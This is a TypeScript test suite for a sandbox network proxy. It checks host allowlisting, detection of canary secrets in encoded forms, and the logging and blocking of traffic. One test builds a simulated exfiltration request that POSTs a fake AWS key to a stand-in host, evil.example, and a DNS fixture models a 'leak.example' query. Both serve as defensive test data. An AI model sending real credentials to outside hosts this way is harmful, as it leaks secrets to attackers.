import http from "node:http";
import net from "node:net";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import {
  findCanaries,
  hostAllowed,
  type LoggingProxy,
  parseDnsQuery,
  startProxy,
} from "../../src/sandbox/proxy";

const canaries = [{ name: "aws_key", value: "AKIATESTCANARY123456" }];

describe("proxy policy helpers", () => {
  it("matches allowlist entries exactly or by subdomain pattern", () => {
    expect(hostAllowed("pypi.org", ["pypi.org"])).toBe(true);
    expect(hostAllowed("evil-pypi.org", ["pypi.org"])).toBe(false);
    expect(hostAllowed("files.pythonhosted.org", ["*.pythonhosted.org"])).toBe(true);
    expect(hostAllowed("pythonhosted.org", ["*.pythonhosted.org"])).toBe(false);
    expect(hostAllowed("registry.npmjs.org.", [".npmjs.org"])).toBe(true);
    expect(hostAllowed("npmjs.org.evil.com", [".npmjs.org"])).toBe(false);
  });

  it("finds canaries raw, percent-encoded, base64 and hex", () => {
    const v = canaries[0]?.value ?? "";
    expect(findCanaries(`key=${v}`, canaries)).toEqual(["aws_key"]);
    expect(findCanaries(`k=${encodeURIComponent(`"${v}"`)}`, canaries)).toEqual(["aws_key"]);
    expect(findCanaries(Buffer.from(v).toString("base64"), canaries)).toEqual(["aws_key"]);
    expect(findCanaries(Buffer.from(v).toString("hex"), canaries)).toEqual(["aws_key"]);
    expect(findCanaries("nothing here", canaries)).toEqual([]);
  });

  it("parses the question of a DNS query", () => {
    const q = Buffer.concat([
      Buffer.from([0x12, 0x34, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0]),
      Buffer.from([4, ...Buffer.from("leak"), 7, ...Buffer.from("example"), 0, 0, 16, 0, 1]),
    ]);
    expect(parseDnsQuery(q)).toMatchObject({ name: "leak.example", type: "TXT" });
    expect(parseDnsQuery(Buffer.from([1, 2, 3]))).toBeNull();
  });
});

/** Talks to the proxy's Unix socket the way the in-container forwarder relays a client. */
function viaSocket(socketPath: string, raw: string): Promise<string> {
  return new Promise((resolve, reject) => {
    const s = net.connect(socketPath);
    let out = "";
    s.on("data", (d) => {
      out += d.toString();
    });
    s.on("end", () => resolve(out));
    s.on("error", reject);
    s.write(raw);
    setTimeout(() => {
      s.end();
    }, 300);
  });
}

describe("logging proxy on a Unix socket (traffic stays on loopback)", () => {
  let upstreamServer: http.Server;
  let upstreamPort = 0;
  let upstreamHits = 0;
  const proxies: LoggingProxy[] = [];
  beforeAll(async () => {
    upstreamServer = http.createServer((req, res) => {
      upstreamHits++;
      res.end(`upstream saw ${req.method} ${req.url}`);
    });
    upstreamServer.on("connect", (_req, sock) => {
      upstreamHits++;
      sock.end("tunnel-bytes");
    });
    await new Promise<void>((r) => upstreamServer.listen(0, "127.0.0.1", () => r()));
    upstreamPort = (upstreamServer.address() as net.AddressInfo).port;
  });
  afterAll(async () => {
    for (const p of proxies) await p.close();
    await new Promise((r) => upstreamServer.close(r));
  });
  const toLoopback = (_host: string, _port: number) => net.connect(upstreamPort, "127.0.0.1");

  it("denies a host off the allowlist with 403, logs it with its body head and flags the canary", async () => {
    const p = await startProxy({ policy: "logged", allowlist: ["pypi.org"], canaries, upstream: toLoopback });
    proxies.push(p);
    const body = `token=${canaries[0]?.value}`;
    const res = await viaSocket(
      p.socketPath,
      `POST http://evil.example/collect HTTP/1.1\r\nHost: evil.example\r\nContent-Length: ${body.length}\r\nConnection: close\r\n\r\n${body}`,
    );
    expect(res).toMatch(/^HTTP\/1.1 403/);
    const connect = await viaSocket(
      p.socketPath,
      "CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n",
    );
    expect(connect).toMatch(/^HTTP\/1.1 403/);
    expect(upstreamHits).toBe(0);
    expect(p.events).toHaveLength(2);
    expect(p.events[0]).toMatchObject({
      kind: "http",
      method: "POST",
      host: "evil.example",
      port: 80,
      allowed: false,
      status: 403,
      bytesOut: body.length,
      bodyHead: body,
      canaries: ["aws_key"],
    });
    expect(p.events[1]).toMatchObject({
      kind: "connect",
      target: "evil.example:443",
      allowed: false,
      canaries: [],
    });
  });

  it("relays allow-listed hosts through the injected connector and still logs them", async () => {
    const p = await startProxy({ policy: "logged", allowlist: ["pypi.org"], canaries, upstream: toLoopback });
    proxies.push(p);
    const before = upstreamHits;
    const res = await viaSocket(
      p.socketPath,
      "GET http://pypi.org/simple/ HTTP/1.1\r\nHost: pypi.org\r\nConnection: close\r\n\r\n",
    );
    expect(res).toMatch(/^HTTP\/1.1 200/);
    expect(res).toContain("upstream saw GET /simple/");
    const tunnel = await viaSocket(
      p.socketPath,
      // Bytes after the CONNECT head go through the tunnel to the (loopback) upstream.
      "CONNECT pypi.org:443 HTTP/1.1\r\nHost: pypi.org:443\r\n\r\nGET /through-tunnel HTTP/1.1\r\nHost: pypi.org\r\nConnection: close\r\n\r\n",
    );
    expect(tunnel).toContain("200 Connection Established");
    expect(tunnel).toContain("upstream saw GET /through-tunnel");
    expect(upstreamHits).toBe(before + 2);
    expect(p.events.map((e) => [e.kind, e.host, e.allowed])).toEqual([
      ["http", "pypi.org", true],
      ["connect", "pypi.org", true],
    ]);
    expect(p.events[0]?.bytesIn).toBeGreaterThan(0);
  });

  it("open policy relays everything, logged", async () => {
    const p = await startProxy({ policy: "open", allowlist: [], canaries, upstream: toLoopback });
    proxies.push(p);
    const res = await viaSocket(
      p.socketPath,
      "GET http://anything.test/x HTTP/1.1\r\nHost: anything.test\r\nConnection: close\r\n\r\n",
    );
    expect(res).toContain("upstream saw GET /x");
    expect(p.events[0]).toMatchObject({ host: "anything.test", allowed: true, status: 200 });
  });
});
